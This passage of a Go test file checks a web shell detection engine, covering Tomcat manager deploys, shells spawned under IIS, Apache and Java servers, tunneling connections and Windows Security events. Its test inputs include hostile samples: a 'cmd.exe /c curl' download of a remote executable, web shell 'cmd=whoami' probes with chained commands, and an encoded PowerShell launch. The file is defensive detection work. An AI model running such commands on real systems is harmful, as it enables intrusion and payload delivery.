		{"/usr/lib/cgi-bin/tmp/x", "www-data", "/usr/sbin/apache2", false}, // "tmp" in the path is not /tmp
	} {
		t.Run(tt.image, func(t *testing.T) {
			ids := linuxProcessRules(t, det, 7000+i, tt.image, filepath.Base(tt.image), tt.user, 4000+i, tt.parent, tt.parent)
			if slices.Contains(ids, dropped) != tt.alert {
				t.Errorf("alerted %v, want %v (rules %v)", slices.Contains(ids, dropped), tt.alert, ids)
			}
		})
	}
}

// TestTomcatManagerDeployRule runs the rule over a real Tomcat 10 manager
// session (module/accesslog/testdata/SOURCES.md): the two deploys of the
// script account through the text API and the HTML manager's upload alert;
// the 401s, the GUI account's 403 on the text API, the upload refused for
// its missing CSRF nonce, the list, the undeploys and the shell's own
// request do not.
func TestTomcatManagerDeployRule(t *testing.T) {
	const rule = "fe57888d-a3b8-4a4d-91da-d5d1b67844ef"
	det, err := detector.New(config.Default())
	if err != nil {
		t.Fatal(err)
	}
	raw, err := os.ReadFile("../module/accesslog/testdata/tomcat-10.1.60-manager-access.log")
	if err != nil {
		t.Fatal(err)
	}
	var alerted []string
	for _, line := range strings.Split(strings.TrimSpace(string(raw)), "\n") {
		if requestMatches(t, det, line, rule) {
			request := strings.Split(line, `"`)[1] // method and target, up to the query (the nonce)
			alerted = append(alerted, request[:strings.Index(request, "?")+1])
		}
	}
	want := []string{"PUT /manager/text/deploy?", "PUT /manager/text/deploy?", "POST /manager/html/upload?"}
	if !slices.Equal(alerted, want) {
		t.Errorf("alerted %q, want %q", alerted, want)
	}
	checkRequests(t, det, rule, `203.0.113.7 - admin [27/Nov/2026:10:00:01 +0000] "%s HTTP/1.1" %d 63 "-" "curl/8.0"`, []requestCase{
		{"GET /manager/text/deploy?path=/x&war=file:/tmp/x.war", 200, true}, // a WAR already on the server
		{"PUT /manager/deploy?path=/x", 200, true},                          // Tomcat 6's text API
		{"POST /manager/html/deploy?deployPath=/x&deployWar=/tmp/x.war", 200, true},
		{"PUT /manager/text/deploy?path=/x", 401, false},
		{"GET /manager/text/undeploy?path=/x", 200, false},
		{"GET /manager/status", 200, false},
		{"GET /shop/manager/html/uploads", 200, false},
	})
}

// Tomcat on Windows runs as its service wrapper, named for its major
// version (Tomcat7.exe ... Tomcat11.exe; the JVM runs inside it), or as
// java.exe when started by startup.bat; ColdFusion as coldfusion.exe
// (jrun.exe before ColdFusion 10). A JSP or CFML shell's cmd.exe and
// whoami, a grandchild under cmd.exe, the unpacked script's write and a
// Defender detection of a file the server touched must alert under each
// (java.exe, any Java program, is a server only by its command line, so
// only the ancestry rule can know its children, and its writes are left
// to the rules that read the folder).
func TestWindowsJavaServers(t *testing.T) {
	const (
		suspiciousChild = "6d1c3f0e-4b7a-4c52-9d0b-2f7e5a8c1a01"
		recon           = "6d1c3f0e-4b7a-4c52-9d0b-2f7e5a8c1a03"
		ancestryTool    = "3b8f2d6a-5c1e-4a9b-8e7d-2f4c6a1b9d05"
		defender        = "69683995-4795-4966-b1b2-1c75026b7040"
	)
	const javaCmd = `"C:\Program Files\Eclipse Adoptium\jdk-17\bin\java.exe" -Dcatalina.base="C:\tomcat" -classpath "C:\tomcat\bin\bootstrap.jar" org.apache.catalina.startup.Bootstrap start`
	servers := []struct{ image, cmd string }{
		{`C:\Tomcat\bin\tomcat.exe`, ""},
		{`C:\Program Files\Apache Software Foundation\Tomcat 7.0\bin\Tomcat7.exe`, ""},
		{`C:\Program Files\Apache Software Foundation\Tomcat 8.5\bin\Tomcat8.exe`, ""},
		{`C:\Program Files\Apache Software Foundation\Tomcat 9.0\bin\Tomcat9.exe`, ""},
		{`C:\Program Files\Apache Software Foundation\Tomcat 10.1\bin\Tomcat10.exe`, ""},
		{`C:\Program Files\Apache Software Foundation\Tomcat 11.0\bin\Tomcat11.exe`, ""},
		{`C:\ColdFusion2021\cfusion\bin\coldfusion.exe`, ""},
		{`C:\JRun4\bin\jrun.exe`, ""},
		{`C:\Program Files\Eclipse Adoptium\jdk-17\bin\java.exe`, javaCmd},
	}
	for i, srv := range servers {
		exe := srv.image[strings.LastIndex(srv.image, `\`)+1:]
		t.Run(exe, func(t *testing.T) {
			det, err := detector.New(config.Default())
			if err != nil {
				t.Fatal(err)
			}
			pid := 1000 * (i + 1)
			start := func(pid, ppid int, parent, parentCmd, image, cmd string) []string {
				doc := sysmonEvent(t, false, 1, "ProcessId", fmt.Sprint(pid), "Image", image, "CommandLine", cmd,
					"User", `NT AUTHORITY\LOCAL SERVICE`, "ParentProcessId", fmt.Sprint(ppid), "ParentImage", parent, "ParentCommandLine", parentCmd)
				det.Detect(doc)
				return detection.LookupStrings(doc, "webshell.rule_ids")
			}
			check := func(what string, ids []string, want ...string) {
				if !slices.ContainsFunc(want, func(id string) bool { return slices.Contains(ids, id) }) {
					t.Errorf("%s: rules %v, want one of %v", what, ids, want)
				}
			}
			parentCmd := cmp.Or(srv.cmd, srv.image)
			cmdExe, whoami := `C:\Windows\System32\cmd.exe`, `C:\Windows\System32\whoami.exe`
			check("cmd.exe under "+exe, start(pid+1, pid, srv.image, parentCmd, cmdExe, `cmd.exe /c whoami /all`), suspiciousChild, ancestryTool)
			check("whoami.exe under "+exe+" -> cmd.exe", start(pid+2, pid+1, cmdExe, `cmd.exe /c whoami /all`, whoami, `whoami /all`), ancestryTool)
			check("whoami.exe under "+exe, start(pid+3, pid, srv.image, parentCmd, whoami, `whoami`), recon, ancestryTool)
			if srv.cmd != "" {
				return
			}
			write := sysmonEvent(t, false, 11, "ProcessId", fmt.Sprint(pid), "Image", srv.image,
				"TargetFilename", `C:\Program Files\Apache Software Foundation\Tomcat\webapps\wsbwar\cmd.jsp`)
			det.Detect(write)
			check(exe+" writes a .jsp", detection.LookupStrings(write, "webshell.rule_ids"), winScriptWrite)
			threat := defenderEvent(t, "1116", "Trojan:Win32/Meterpreter", `file:_C:\Users\Public\x.exe`, srv.image)
			det.Detect(threat)
			check("Defender detection of a file "+exe+" touched", detection.LookupStrings(threat, "webshell.rule_ids"), defender)
		})
	}
}

// A script written by a program a Windows web server started, at any
// depth: SharePoint's ToolShell (CVE-2025-53770) ran powershell.exe under
// w3wp.exe, which wrote spinstall0.aspx into the LAYOUTS folder; before,
// only a write by the server's own process alerted. The same powershell.exe
// started by an administrator writes the page unalerted, and the ASP.NET
// compiler's files stay left out.
func TestScriptWriteByDescendant(t *testing.T) {
	det, err := detector.New(config.Default())
	if err != nil {
		t.Fatal(err)
	}
	ps := `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
	layouts := `C:\Program Files\Common Files\Microsoft Shared\Web Server Extensions\16\TEMPLATE\LAYOUTS\`
	start := func(pid int, parent string) {
		det.Detect(sysmonEvent(t, false, 1, "ProcessId", fmt.Sprint(pid), "Image", ps, "CommandLine", "powershell.exe -EncodedCommand JABiAGEAcwBl",
			"User", `CONTOSO\spfarm`, "ParentProcessId", fmt.Sprint(pid-1), "ParentImage", parent, "ParentCommandLine", parent))
	}
	start(201, `C:\Windows\System32\inetsrv\w3wp.exe`)
	start(301, `C:\Windows\explorer.exe`)
	for _, c := range []struct {
		pid  int
		file string
		want bool
	}{
		{201, layouts + "spinstall0.aspx", true},
		{201, layouts + "debug_dev.ascx", true},
		{201, `C:\Windows\Microsoft.NET\Framework64\v4.0.30319\Temporary ASP.NET Files\root\x\App_Web_a.aspx`, false},
		{201, layouts + "notes.txt", false},
		{301, layouts + "spinstall0.aspx", false},
	} {
		doc := sysmonEvent(t, false, 11, "ProcessId", fmt.Sprint(c.pid), "Image", ps, "TargetFilename", c.file)
		if got := ruleMatches(det, doc, winScriptWrite); got != c.want {
			t.Errorf("pid %d writes %s: alert %v, want %v (ancestry %v)", c.pid, c.file, got, c.want, detection.LookupStrings(doc, "webshell.ancestry.name"))
		}
	}
}

// The probe rule is the parameter rule answered with an error, with the
// same commands, chained ones included.
func TestCommandProbe(t *testing.T) {
	const probe, param = "6d1c3f0e-4b7a-4c52-9d0b-2f7e5a8c1a09", "6d1c3f0e-4b7a-4c52-9d0b-2f7e5a8c1a08"
	det, err := detector.New(config.Default())
	if err != nil {
		t.Fatal(err)
	}
	format := `203.0.113.7 - - [27/Nov/2026:10:00:01 +0000] "%s HTTP/1.1" %d 0 "-" "curl/8.0"`
	checkRequests(t, det, probe, format, []requestCase{
		{"GET /shell.php?cmd=whoami", 404, true},
		{"GET /shell.php?c=sleep%203;%20whoami", 404, true},
		{"GET /shell.php?c=sleep%203;%20whoami", 200, false},
		{"GET /search.php?q=tom+%26+jerry", 404, false},
	})
	checkRequests(t, det, param, format, []requestCase{
		{"GET /shell.php?c=sleep%203;%20whoami", 200, true},
		{"GET /shell.php?c=sleep%203;%20whoami", 404, false},
	})
}

const (
	winTunnel      = "8ffa16e5-88fe-4e28-9ae7-4b6043634661"
	lnxTunnel      = "6476d874-283d-45bb-bc90-b0b9d1386e4e"
	winOutbound    = "6e1d9a3c-7b2f-4c8e-a5d1-3f9b2c7e1a64"
	lnxOutbound    = "7b80973f-9c21-49d2-8e9a-ddf5fad60cb3"
	winAnyChild    = "6d1c3f0e-4b7a-4c52-9d0b-2f7e5a8c1a02"
	tunnaSysmonLog = "../../shared/data/sbousseaden-EVTX-ATTACK-SAMPLES/Command and Control/tunna_iis_rdp_smb_tunneling_sysmon_3.evtx"
)

// Tunna relaying RDP and SMB through an IIS web shell (a real capture,
// Sysmon 3 only): w3wp.exe itself connects to 127.0.0.1:3389 and :445,
// which no process rule sees, as the tunnel starts no process. Each of its
// four connections alerts; the answering svchost.exe and System do not.
func TestTunnaCapture(t *testing.T) {
	f, err := os.Open(tunnaSysmonLog)
	if err != nil {
		t.Skipf("the shared capture: %v", err)
	}
	defer f.Close()
	det, err := detector.New(config.Default())
	if err != nil {
		t.Fatal(err)
	}
	var alerted []string
	err = windows.ReadEVTX(f, 0, func(rec *windows.Record, err error) error {
		if err != nil {
			return err
		}
		doc := rec.ECS()
		if ruleMatches(det, doc, winTunnel) {
			alerted = append(alerted, fmt.Sprintf("%s -> %s:%v", detection.LookupString(doc, "process.name"), detection.LookupString(doc, "destination.ip"), lookup(doc, "destination.port")))
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	want := []string{"w3wp.exe -> 127.0.0.1:3389", "w3wp.exe -> 127.0.0.1:3389", "w3wp.exe -> 127.0.0.1:445", "w3wp.exe -> 127.0.0.1:445"}
	if !slices.Equal(alerted, want) {
		t.Errorf("tunnel alerts %q, want %q", alerted, want)
	}
}

func lookup(doc map[string]any, path string) any {
	v, _ := detection.Lookup(doc, path)
	return v
}

// The tunnel rules on connections as the mappers give them: a web server's
// own connection to a remote-access port alerts (Tomcat's java.exe and
// java known by the command line of their start), one to its database, to
// a file share on another host, made by another program or by a proxy that
// runs no scripts (nginx) does not.
func TestTunnelRules(t *testing.T) {
	det, err := detector.New(config.Default())
	if err != nil {
		t.Fatal(err)
	}
	const javaCmd = `"C:\Program Files\Java\jdk-17\bin\java.exe" -Dcatalina.base="C:\tomcat" org.apache.catalina.startup.Bootstrap start`
	java := `C:\Program Files\Java\jdk-17\bin\java.exe`
	det.Detect(sysmonEvent(t, false, 1, "ProcessId", "700", "Image", java, "CommandLine", javaCmd, "ParentProcessId", "600", "ParentImage", `C:\Windows\System32\cmd.exe`))
	det.Detect(sysmonEvent(t, true, 1, "ProcessId", "800", "Image", "/usr/lib/jvm/java-17-openjdk-amd64/bin/java",
		"CommandLine", "/usr/lib/jvm/java-17-openjdk-amd64/bin/java -Dcatalina.base=/var/lib/tomcat10 org.apache.catalina.startup.Bootstrap start",
		"User", "tomcat", "ParentProcessId", "1", "ParentImage", "/usr/lib/systemd/systemd"))
	for _, c := range []struct {
		linux     bool
		pid       int
		image, ip string
		port      int
		want      bool
	}{
		{false, 3008, `C:\Windows\System32\inetsrv\w3wp.exe`, "10.0.0.5", 3389, true},
		{false, 3008, `C:\Windows\System32\inetsrv\w3wp.exe`, "10.0.0.5", 5985, true},
		{false, 3008, `C:\Windows\System32\inetsrv\w3wp.exe`, "::1", 445, true},
		{false, 3008, `C:\Windows\System32\inetsrv\w3wp.exe`, "10.0.0.5", 445, false}, // content on a file share
		{false, 3008, `C:\Windows\System32\inetsrv\w3wp.exe`, "10.0.0.5", 1433, false},
		{false, 700, java, "10.0.0.5", 22, true},
		{false, 701, java, "10.0.0.5", 22, false}, // another java program
		{false, 900, `C:\Windows\System32\mstsc.exe`, "10.0.0.5", 3389, false},
		{false, 950, `C:\nginx\nginx.exe`, "10.0.0.5", 3389, false}, // a stream proxy in front of RDP
		{true, 410, "/usr/sbin/apache2", "10.0.0.5", 22, true},
		{true, 410, "/usr/sbin/apache2", "10.0.0.5", 3306, false},
		{true, 411, "/usr/sbin/php-fpm8.2", "127.0.0.1", 445, true},
		{true, 800, "/usr/lib/jvm/java-17-openjdk-amd64/bin/java", "127.0.0.1", 3389, true},
		{true, 801, "/usr/lib/jvm/java-17-openjdk-amd64/bin/java", "127.0.0.1", 3389, false},
		{true, 900, "/usr/bin/ssh", "10.0.0.5", 22, false},
		{true, 950, "/usr/sbin/nginx", "10.0.0.5", 22, false}, // a stream proxy in front of SSH
	} {
		doc := sysmonEvent(t, c.linux, 3, "ProcessId", fmt.Sprint(c.pid), "Image", c.image, "Initiated", "true", "Protocol", "tcp",
			"SourceIp", "10.0.0.2", "SourcePort", "50123", "DestinationIp", c.ip, "DestinationPort", fmt.Sprint(c.port))
		rule := cmp.Or(map[bool]string{true: lnxTunnel}[c.linux], winTunnel)
		if got := ruleMatches(det, doc, rule); got != c.want {
			t.Errorf("%s (pid %d) -> %s:%d: alert %v, want %v (rules %v)", c.image, c.pid, c.ip, c.port, got, c.want, detection.LookupStrings(doc, "webshell.rule_ids"))
		}
	}
}

// A web server's worker descends from its master (apache2 -> apache2,
// php-cgi.exe under w3wp.exe, httpd.exe -> httpd.exe): its own connections
// to the site's database, and its own start, alerted as a descendant's
// before. A shell under the worker still does.
func TestServerWorkers(t *testing.T) {
	det, err := detector.New(config.Default())
	if err != nil {
		t.Fatal(err)
	}
	start := func(linux bool, pid, ppid int, image, parent string) []string {
		doc := sysmonEvent(t, linux, 1, "ProcessId", fmt.Sprint(pid), "Image", image, "CommandLine", image,
			"User", "www-data", "ParentProcessId", fmt.Sprint(ppid), "ParentImage", parent, "ParentCommandLine", parent)
		det.Detect(doc)
		return detection.LookupStrings(doc, "webshell.rule_ids")
	}
	connect := func(linux bool, pid int, image string) []string {
		doc := sysmonEvent(t, linux, 3, "ProcessId", fmt.Sprint(pid), "Image", image, "Initiated", "true", "Protocol", "tcp",
			"SourceIp", "10.0.0.2", "SourcePort", "50123", "DestinationIp", "10.0.0.9", "DestinationPort", "3306")
		det.Detect(doc)
		return detection.LookupStrings(doc, "webshell.rule_ids")
	}
	apache, httpd, w3wp, phpCGI := "/usr/sbin/apache2", `C:\Apache24\bin\httpd.exe`, `C:\Windows\System32\inetsrv\w3wp.exe`, `C:\PHP\php-cgi.exe`
	start(true, 100, 1, apache, "/usr/lib/systemd/systemd")
	start(true, 101, 100, apache, apache)
	start(false, 200, 50, httpd, `C:\Windows\System32\services.exe`)
	if ids := start(false, 201, 200, httpd, httpd); slices.Contains(ids, winAnyChild) {
		t.Errorf("httpd.exe's worker under httpd.exe: rules %v, want no any-child alert", ids)
	}
	start(false, 300, 60, w3wp, `C:\Windows\System32\svchost.exe`)
	start(false, 301, 300, phpCGI, w3wp)
	for _, c := range []struct {
		linux bool
		pid   int
		image string
		rule  string
	}{{true, 101, apache, lnxOutbound}, {false, 201, httpd, winOutbound}, {false, 301, phpCGI, winOutbound}} {
		if ids := connect(c.linux, c.pid, c.image); slices.Contains(ids, c.rule) {
			t.Errorf("%s (a worker) to its database: rules %v, want no descendant's outbound alert", c.image, ids)
		}
	}
	start(true, 102, 101, "/usr/bin/dash", apache)
	if ids := connect(true, 102, "/usr/bin/dash"); !slices.Contains(ids, lnxOutbound) {
		t.Errorf("a shell under the worker connecting out: rules %v, want %s", ids, lnxOutbound)
	}
	start(false, 302, 301, `C:\Windows\System32\cmd.exe`, phpCGI)
	if ids := connect(false, 302, `C:\Windows\System32\cmd.exe`); !slices.Contains(ids, winOutbound) {
		t.Errorf("cmd.exe under php-cgi.exe connecting out: rules %v, want %s", ids, winOutbound)
	}
}

// securityEvent builds a Security-channel event with the given EventData
// and maps it with the beat's own mapper.
func securityEvent(t *testing.T, id int, data ...string) map[string]any {
	t.Helper()
	xml := testfiles.Event("Microsoft-Windows-Security-Auditing", "Security", id, time.Date(2026, 11, 26, 10, 0, 0, 0, time.UTC), "web1", data...)
	return xmlECS(t, xml)
}

// A host without Sysmon: 4688 gives the process tree, the Windows
// Filtering Platform's 5156 (permitted) and 5157 (blocked) the
// connections, with the image as a device path. The tunnel rule and the
// descendant's outbound rule read them as they read Sysmon 3.
func TestSecurityConnectionRules(t *testing.T) {
	det, err := detector.New(config.Default())
	if err != nil {
		t.Fatal(err)
	}
	det.Detect(securityEvent(t, 4688, "NewProcessId", "0x1f4", "NewProcessName", `C:\Windows\System32\cmd.exe`, "CommandLine", `cmd.exe /c curl http://203.0.113.7/x.exe -o x.exe`,
		"ProcessId", "0xbc0", "ParentProcessName", `C:\Windows\System32\inetsrv\w3wp.exe`, "SubjectUserName", "DefaultAppPool"))
	w3wp, cmdExe := `\device\harddiskvolume2\windows\system32\inetsrv\w3wp.exe`, `\device\harddiskvolume2\windows\system32\cmd.exe`
	for _, c := range []struct {
		id        int
		pid       string
		app, dir  string
		ip, port  string
		rule      string
		want      bool
		describes string
	}{
		{5156, "3008", w3wp, "%%14593", "127.0.0.1", "3389", winTunnel, true, "w3wp.exe's outbound RDP, permitted"},
		{5157, "3008", w3wp, "%%14593", "10.0.0.5", "5985", winTunnel, true, "w3wp.exe's outbound WinRM, blocked"},
		{5156, "3008", w3wp, "Outbound", "::1", "445", winTunnel, true, "w3wp.exe's SMB to its host, direction rendered"},
		{5156, "3008", w3wp, "%%14592", "10.0.0.5", "22", winTunnel, false, "an inbound connection"},
		{5156, "3008", w3wp, "%%14593", "10.0.0.5", "444", winTunnel, false, "Exchange's w3wp.exe to its back end (OTRF ProxyLogon)"},
		{5156, "500", cmdExe, "%%14593", "203.0.113.7", "80", winOutbound, true, "cmd.exe under w3wp.exe (4688) calling out"},
		{5156, "3008", w3wp, "%%14593", "10.0.0.9", "1433", winOutbound, false, "w3wp.exe itself to its database"},
	} {
		doc := securityEvent(t, c.id, "ProcessID", c.pid, "Application", c.app, "Direction", c.dir, "SourceAddress", "10.0.0.2", "SourcePort", "50123",
			"DestAddress", c.ip, "DestPort", c.port, "Protocol", "6")
		if got := ruleMatches(det, doc, c.rule); got != c.want {
			t.Errorf("%s (%d): alert %v, want %v (rules %v)", c.describes, c.id, got, c.want, detection.LookupStrings(doc, "webshell.rule_ids"))
		}
	}
}

// xmlECS maps one event's XML with the beat's own mapper.
func xmlECS(t *testing.T, xml string) map[string]any {
	t.Helper()
	rec, err := windows.ParseXML([]byte(xml))
	if err != nil {
		t.Fatal(err)
	}
	return rec.ECS()
}

// Every file of the pack loads: a rule the parser rejects (a description
// with ": " in a plain YAML scalar, once) would otherwise only show as
// the missing alerts of whichever test reads it. Only the seed rules'
// non-UUID ids warn.
func TestBuiltinPackLoads(t *testing.T) {
	coll := sigma.LoadFS(rules.Builtin, rules.BuiltinRoot)
	for _, e := range coll.Errors {
		t.Errorf("rejected: %v", e)
	}
	for _, w := range coll.Warnings {
		if !strings.Contains(w.Error(), "seed_") {
			t.Errorf("warning: %v", w)
		}
	}
	files, _ := fs.Glob(rules.Builtin, rules.BuiltinRoot+"/*.yml")
	if n := len(coll.Rules) + len(coll.Filters); n != len(files) {
		t.Errorf("%d rules and filters from %d files", n, len(files))
	}
}
